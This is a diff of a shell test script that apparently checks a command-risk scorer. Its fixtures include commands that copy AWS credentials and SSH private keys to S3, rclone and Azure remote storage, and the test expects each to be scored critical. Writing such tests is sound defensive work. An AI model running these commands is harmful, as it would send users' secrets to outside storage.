@@ -29,7 +29,7 @@ pass "local files copied to remote storage are at least high"
 for cmd in "aws s3 cp ~/.aws/credentials s3://bucket/c" "rclone copy ~/.ssh remote:keys" \
 	"az storage blob upload -c c -n n -f ~/.ssh/id_rsa"; do
 	held "$cmd" "$(exec_req "$cmd")"
-	case $LEVEL in critical) ;; *) fail "$cmd: scored '$LEVEL', want critical" ;; esac
+	is_critical "$cmd"
 done
 pass "credentials copied up are critical"
 
